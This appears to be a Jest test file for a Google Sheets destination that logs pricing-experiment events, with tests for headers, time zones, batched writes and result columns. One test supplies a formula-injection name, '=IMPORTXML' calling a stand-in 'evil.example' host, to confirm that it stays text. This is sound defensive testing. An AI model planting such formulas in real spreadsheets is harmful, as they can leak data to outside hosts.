import { setImmediate } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import type { Destination } from '../../../../receivers/contract/destination.ts';
import { type FakeGoogleSheets, startFakeGoogleSheets } from '../../../fakes/google-sheets.ts';
import { messageOf, SAMPLE_REPORT, sampleMessage, samplePayload } from '../../../fixtures/messages.ts';
import { attempt } from '../common/opened.ts';
import { deliver, EXPERIENCES, LOG, openOn } from './opened.ts';

let fake: FakeGoogleSheets;
let destination: Destination;

beforeEach(async () => {
  fake = await startFakeGoogleSheets();
  destination = await openOn(fake);
});

afterEach(async () => {
  await destination.close();
  await fake.close();
});

/** A start of an experience of its own. */
function startOf(number: number): ReturnType<typeof messageOf> {
  const payload = samplePayload('start');
  return messageOf({ ...payload, experience: { ...payload.experience, id: `experience-${number}` } });
}

const HEADERS = [
  'Experience Name',
  'Action Type',
  'Experience Type',
  'Timestamp',
  'Experience ID',
  'Triggered By Email',
];

describe('a row per event', () => {
  test('an event’s row goes below the last one, in a tab that is created with its headers', async () => {
    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
    const [headers, created, started] = fake.spreadsheet.shown(LOG);
    expect(headers?.slice(0, 6)).toEqual(HEADERS);
    expect(created?.slice(0, 6)).toEqual([
      'Backpack price test',
      'createExperience',
      'pricing',
      '2026-09-01 10:02:11',
      '7c0d9a54-3b1e-4f3a-9d27-52f0c9a1b6e8',
      'maya@alpine-goods.example',
    ]);
    expect(started?.[1]).toBe('startExperience');
    expect(fake.spreadsheet.sheet(LOG).frozenRowCount).toBe(1);
    expect(
      fake.spreadsheet
        .sheet(LOG)
        .columns.map(({ hidden }) => hidden)
        .indexOf(true),
    ).toBe(6);
  });

  test('a timestamp is a date-time cell in the time zone of the spreadsheet or the setting', async () => {
    await deliver(destination, sampleMessage('start'));
    const cell = fake.spreadsheet.cell(LOG, 1, 3);
    expect(cell?.userEnteredValue).toEqual({ numberValue: 46267.22916666667 });
    expect(cell?.userEnteredFormat?.numberFormat?.type).toBe('DATE_TIME');
    const inZurich = await openOn(fake, { timeZone: 'Europe/Zurich', tab: 'Zurich' });
    await deliver(inZurich, sampleMessage('start'));
    await inZurich.close();
    expect(fake.spreadsheet.shown('Zurich')[1]?.[3]).toBe('2026-09-02 11:30:00');
  });

  test('a name that looks like a formula stays a text', async () => {
    const payload = samplePayload('start');
    const name = '=IMPORTXML("https://evil.example","//a")';
    await deliver(destination, messageOf({ ...payload, experience: { ...payload.experience, name } }));
    expect(fake.spreadsheet.cell(LOG, 1, 0)?.userEnteredValue).toEqual({ stringValue: name });
  });

  test('a report goes to its own tab', async () => {
    await deliver(destination, SAMPLE_REPORT);
    expect(fake.spreadsheet.shown('Reports')[1]?.slice(1, 3)).toEqual([
      'Digest',
      'Experiments on 9 October 2026: 2 started, 1 ended',
    ]);
  });

  test('chosen columns follow the first six, under the headers that a map sets', async () => {
    const chosen = await openOn(fake, {
      tab: 'Chosen',
      columns: { Now: 'status', 'Which test': 'experience name', Key: 'eventKey' },
    });
    await deliver(chosen, sampleMessage('pause'));
    await chosen.close();
    const [record] = fake.spreadsheet.records('Chosen');
    expect(Object.keys(record ?? {})).toEqual(['Which test', ...HEADERS.slice(1), 'Now', 'Key']);
    expect(record).toMatchObject({ Now: 'Paused', 'Which test': 'Backpack price test' });
    expect(fake.spreadsheet.sheet('Chosen').columns.some(({ hidden }) => hidden)).toBe(false);
  });

  test('a tab can be created per month and organization', async () => {
    const monthly = await openOn(fake, { tab: '{organization} {month}' });
    await deliver(monthly, sampleMessage('start'), sampleMessage('end'));
    await monthly.close();
    expect(fake.spreadsheet.tabs).toContain('Alpine Goods 2026-09');
  });
});

describe('rows that come at the same time', () => {
  test('the first row is written at once, and rows that arrive meanwhile go together in the next write', async () => {
    fake.delayMs = 20;
    const first = destination.send(startOf(0), attempt());
    while (fake.calls.length === 0) {
      await setImmediate();
    }
    const rest = Array.from({ length: 40 }, (_, index) => destination.send(startOf(index + 1), attempt()));
    const outcomes = await Promise.all([first, ...rest]);
    expect(new Set(outcomes.map(({ type }) => type))).toEqual(new Set(['done']));
    expect(fake.calls.filter((kind) => kind === 'write')).toHaveLength(2);
    const ids = fake.spreadsheet.records(LOG).map((record) => record['Experience ID']);
    expect(ids).toEqual(Array.from({ length: 41 }, (_, number) => `experience-${number}`));
    expect(fake.spreadsheet.records(EXPERIENCES)).toHaveLength(41);
  });

  test('rows that arrive together cost one read and one write once the tabs are known', async () => {
    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
    fake.calls.length = 0;
    await deliver(destination, sampleMessage('update'));
    expect(fake.calls).toEqual(['read', 'write']);
  });
});

describe('one row per experience', () => {
  test('the experience’s row is kept up to date next to the log', async () => {
    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
    const [running] = fake.spreadsheet.records(EXPERIENCES);
    expect(running).toMatchObject({ Status: 'Started', 'Last Event': 'Experience Started' });
    expect(running?.['Days Live']).toMatch(/^=NOW\(\)-\d+\/1440$/);
    await deliver(destination, sampleMessage('update'), sampleMessage('pause'), sampleMessage('end'));
    const records = fake.spreadsheet.records(EXPERIENCES);
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({
      'Experience Name': 'Backpack price test',
      Type: 'Price',
      Status: 'Ended',
      Variations: 'Control 80%, Price −5% 20%',
      Started: '2026-09-02 05:30:00',
      Ended: '2026-09-24 06:00:05',
      By: 'maya@alpine-goods.example',
    });
    expect(fake.spreadsheet.records(LOG)).toHaveLength(5);
  });

  test('a late event does not set the experience’s row back', async () => {
    await deliver(destination, sampleMessage('end'));
    const { state, history } = sampleMessage('end');
    await deliver(destination, sampleMessage('start', { late: true, state, history }));
    expect(fake.spreadsheet.records(EXPERIENCES)).toMatchObject([
      { Status: 'Ended', 'Last Event': 'Experience Ended' },
    ]);
  });

  test('the experience’s row gets columns for the results once they are known', async () => {
    await deliver(destination, sampleMessage('end'));
    expect(Object.keys(fake.spreadsheet.records(EXPERIENCES)[0] ?? {})).not.toContain('Verdict');
    const variation = {
      visitors: 900,
      orders: 30,
      conversion: 0.03,
      revenuePerVisitor: 2,
      profitPerVisitor: null,
    };
    await deliver(
      destination,
      sampleMessage('delete', {
        results: {
          verdict: 'strong_win',
          summary: 'Price −5% wins.',
          currency: 'USD',
          monthlyRevenue: 12_345,
          chart: null,
          variations: [
            {
              ...variation,
              id: 'a',
              name: 'Control',
              isControl: true,
              uplift: null,
              probabilityToBeatBaseline: null,
            },
            {
              ...variation,
              id: 'b',
              name: 'Price −5%',
              isControl: false,
              uplift: { value: 0.042, low: 0.01, high: 0.08 },
              probabilityToBeatBaseline: 0.97,
            },
          ],
        },
      }),
    );
    expect(fake.spreadsheet.records(EXPERIENCES)).toMatchObject([
      { Verdict: 'Strong win', 'Best Variation': 'Price −5%', Uplift: '0.042', 'Chance to Win': '0.97' },
    ]);
  });
});
